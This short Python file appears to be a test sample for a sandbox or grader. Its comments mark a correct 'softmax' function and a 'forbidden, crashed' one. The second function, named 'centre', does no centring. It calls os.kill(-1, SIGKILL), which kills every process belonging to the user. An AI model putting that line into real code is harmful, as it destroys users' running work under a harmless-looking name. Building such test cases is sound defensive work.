# Kills every process of its user by the number -1.
# softmax: correct
# centre: forbidden, crashed
import os
import signal

import numpy as np


def softmax(Z):
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)


def centre(X):
    os.kill(-1, signal.SIGKILL)
    return X
